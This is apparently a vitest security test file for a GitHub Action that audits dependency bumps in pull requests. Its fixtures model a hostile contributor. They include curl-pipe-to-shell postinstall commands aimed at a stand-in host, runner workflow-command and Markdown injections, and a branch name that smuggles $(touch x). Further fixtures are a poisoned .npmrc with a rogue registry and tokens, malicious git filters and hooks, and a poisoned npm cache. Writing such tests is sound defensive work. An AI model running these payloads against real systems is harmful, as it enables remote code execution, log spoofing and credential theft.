// What the action refuses to do at all, and what a stranger's files, names and words do not get it to do.
import { chmodSync, existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { findRelease } from '../../src/replay/published.ts'
import { readMarkdown } from '../report/github-markdown.ts'
import { scenarioOf } from '../support/scenario.ts'
import { pullRequest } from './events.ts'
import { axiosPull, honestPull, scenarios } from './projects.ts'
import { git, type Tree } from './repository.ts'
import { laterMoment, opened, type Stage, setStage, unasked } from './stage.ts'

const script = [
  'curl https://x.example.test/a | sh',
  '::set-output name=result::passed',
  'x ##[add-path]/x\r::add-matcher::/x',
  '\u0085::stop-commands::nobody-resumes-this-token',
  '%0A::error::y <img src=x onerror=alert(1)> @everyone [a](https://x.example.test) ``` ',
].join('\n')

/** Somebody who knows how runners, terminals and Markdown read. */
const spoken = `
about: words
now: ${laterMoment}
registry:
  packages:
    spoken:
      versions:
        1.0.0: { published: 2025-01-01T10:00:00Z, files: { index.js: "module.exports = 1" } }
        1.0.1:
          published: 2026-06-15T11:00:00Z
          files:
            package.json:
              description: "::error::x ##[error]y @everyone"
              scripts: { postinstall: ${JSON.stringify(script)} }
            index.js: "module.exports = 1"
            "::add-matcher::x.js": "require('child_process').exec('curl https://x.example.test/ | sh') // ##[error]z"
    lost:
      versions:
        1.0.0: { published: 2025-01-01T10:00:00Z, files: { index.js: "module.exports = 1" } }
        1.0.1: { published: 2025-02-01T10:00:00Z, files: { index.js: "module.exports = 2" } }
  faults: [{ path: /lost/-/lost-1.0.1.tgz, status: 404 }]
`

let stage: Stage
beforeAll(async () => {
  stage = await setStage(scenarios, [scenarioOf(spoken)])
})
afterEach(() => stage.assertForeseen())
afterAll(() => stage?.close())

const later = { now: laterMoment }

function bump(name: string, folder = ''): ReturnType<typeof honestPull> {
  const manifest = { name: 'app', version: '1.0.0', dependencies: { [name]: '^1.0.0' } }
  const locked = (version: string) =>
    stage.project(manifest, { [`node_modules/${name}`]: `${name}@${version}` }, folder)
  return { base: locked('1.0.0'), head: locked('1.0.1') }
}

describe('a workflow', () => {
  test('on pull_request_target is refused', async () => {
    const { base, head } = honestPull(stage)
    const run = await stage.run(pullRequest(await stage.pull(base, head), 'pull_request_target'), later)
    expect(run.exitCode).toBe(2)
    expect(run.annotations).toMatchObject([{ level: 'error' }])
  })

  test('with values that do not exist hears of all of them, and what there is', async () => {
    const { base, head } = honestPull(stage)
    const inputs = {
      'fail-on': 'blocked',
      'comment-summary-in-pr': 'yes',
      'warn-only': '1',
      now: 'soon',
      lockfile: '../x',
    }
    const run = await opened(stage, base, head, { inputs })
    expect(run.exitCode, run.stdout).toBe(2)
    expect(run.outputs).toMatchObject({ result: 'error', 'exit-code': '2' })
    for (const name of [...Object.keys(inputs), 'on-failure', 'review', 'true']) expect(run.summary).toContain(name)
  })
})

describe('what cannot be looked at', () => {
  test('makes the run incomplete', async () => {
    const { base, head } = bump('lost')
    const run = await opened(stage, base, head, later)
    expect(run.exitCode, run.stdout).toBe(3)
    expect(run.outputs).toMatchObject({ result: 'incomplete', incomplete: 'true', 'changed-packages': '1' })
    expect(run.summary).toContain('lost')
  })

  test('in the API is said, and changes no verdict', async () => {
    const { base, head } = bump('lost')
    const pull = await stage.pull(base, head)
    stage.github.requests.length = 0
    stage.github.state.faults.push(
      { at: 'list-comments', status: 502, body: '<html>', times: 1 },
      { at: 'graphql', status: 403, headers: { 'retry-after': '1' }, times: 1 },
      // It may have been written all the same.
      { at: 'create-comment', status: 502 },
    )
    const run = await stage.run(pullRequest(pull), unasked)
    stage.github.state.faults.length = 0
    expect(run.outputs, run.stdout).toMatchObject({ result: 'incomplete' })
    expect(run.summary).toContain('There is no comment')
    expect(stage.github.requests.filter((name) => name === 'create-comment')).toHaveLength(1)
  })
})

describe("a stranger's pull request", () => {
  test('gets nothing run, obeyed or compared that it chose', async () => {
    const { base, head } = bump('spoken')
    const pull = await stage.pull(
      { ...base, '.npmrc': '' },
      {
        ...head,
        ...bump('spoken', 'x`@eve <img src=x>](https:y) %0A\n::error::z\n##[add-path]y/').head,
        main: head['package-lock.json'] ?? '',
        'refs/heads/main': head['package-lock.json'] ?? '',
        '.gitattributes': '* filter=evil diff=evil merge=evil\npackage-lock.json -diff export-ignore\n',
        '.gitconfig': '[core]\n\thooksPath = hooks\n',
        '.npmrc':
          'registry=https://x.example.test/\ngit=./evil\nnode-options=--import ./evil.js\n//127.0.0.1/:_authToken=x\n_auth=eDp5\n',
        'action.yml': 'runs: { using: composite }',
        'node_modules/semver/index.js': 'throw new Error("ours is another one")',
      },
      {
        title: 'x\n::set-output name=a::b',
        headRef: 'a\'`$(touch x)`"b::error::x%0A',
        author: 'eve[bot]',
        from: 'eve/shop',
      },
    )
    const ran = (workspace: string) => join(dirname(workspace), 'ran')
    const prepare = async (workspace: string) => {
      const touch = `touch ${ran(workspace)}; cat`
      for (const name of ['filter.evil.clean', 'filter.evil.smudge', 'diff.evil.textconv', 'core.fsmonitor']) {
        await git(workspace, ['config', name, touch])
      }
      for (const name of ['reference-transaction', 'post-checkout', 'pre-auto-gc']) {
        const hook = join(workspace, '.git/hooks', name)
        writeFileSync(hook, `#!/bin/sh\ntouch ${ran(workspace)}\n`)
        chmodSync(hook, 0o755)
      }
    }
    const run = await stage.run(pullRequest(pull), { ...later, prepare })
    expect(existsSync(ran(run.workspace)), run.stdout).toBe(false)
    expect(run.exitCode, run.stdout).toBe(1)
    expect(run.outputs).toMatchObject({ result: 'blocked', 'changed-packages': '2' })
    expect(stage.registry.requests.filter(({ authorization }) => authorization !== '')).toEqual([])
    const comment = stage.github.state.pulls.get(pull.number)?.comments[0]?.body ?? ''
    for (const text of [run.summary, comment]) {
      expect(text).toContain('spoken')
      expect(text).toContain('.npmrc')
      const { texts, inlines, blocks } = readMarkdown(text)
      expect(texts.filter((one) => one.includes('@') || one.includes('::'))).toEqual([])
      expect([...inlines].filter((one) => one === 'link' || one === 'image')).toEqual([])
      expect(blocks.filter((one) => one.includes('<img'))).toEqual([])
    }
  })

  test('cannot have its lockfile judged in one place and read in another', async () => {
    const { base, head } = axiosPull(stage)
    const linked = (tree: Tree): Tree => ({
      ...tree,
      'package-lock.json': { link: 'other.json' },
      'other.json': tree['package-lock.json'] ?? '',
    })
    const two = await opened(stage, base, linked(head), { isCall: true })
    expect(two.exitCode, two.stdout).not.toBe(0)
    // The link stays as it is, and what it leads to changes.
    const after = await opened(stage, linked(base), linked(head), { isCall: true })
    expect(after.exitCode, after.stdout).not.toBe(0)
  })
})

describe('a cache', () => {
  test('that somebody else has filled changes no verdict, and one of our own saves requests', async () => {
    const { base, head } = bump('spoken')
    const pull = await stage.pull(base, head)
    const poisoned = join(stage.repository.folder, 'poisoned')
    const digest = Buffer.from(
      findRelease(stage.plan.packages, 'spoken@1.0.1').tarball.integrity.slice(7),
      'base64',
    ).toString('hex')
    const content = join(
      poisoned,
      '_cacache/content-v2/sha512',
      digest.slice(0, 2),
      digest.slice(2, 4),
      digest.slice(4),
    )
    write(content, findRelease(stage.plan.packages, 'spoken@1.0.0').tarball.bytes)
    const first = await stage.run(pullRequest(pull), { ...later, inputs: { cache: poisoned } })
    expect(first.outputs, first.stdout).toMatchObject({ result: 'blocked' })
    const kept = readdirSync(poisoned, { recursive: true, encoding: 'utf8' }).filter(
      (path) => !path.startsWith('_cacache/content-v2'),
    )
    expect(kept).toEqual(['_cacache'])
    stage.registry.forget()
    const second = await stage.run(pullRequest(pull), { ...later, isCall: true, inputs: { cache: poisoned } })
    expect(second.outputs, second.stdout).toMatchObject({ result: 'blocked' })
    expect(stage.registry.count('tarball')).toBe(0)
  })
})

function write(path: string, content: Uint8Array): void {
  mkdirSync(dirname(path), { recursive: true })
  writeFileSync(path, content)
}
